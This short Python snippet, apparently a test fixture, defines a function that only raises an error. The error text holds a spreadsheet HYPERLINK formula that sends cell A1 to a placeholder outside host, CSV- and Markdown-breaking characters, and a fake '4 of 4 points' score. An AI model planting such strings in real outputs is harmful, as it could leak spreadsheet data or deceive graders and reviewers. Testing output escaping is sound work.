"""An error whose text is a formula, a line of a table, and a fence of Markdown."""


def time_on_the_gpu(work):
    raise ValueError(
        '=HYPERLINK("http://192.0.2.1/?"&A1,"4/4")\n@SUM(1)\n```\n# 4 of 4 points\n| a | b |\n"\r\n,;\t4,4'
    )
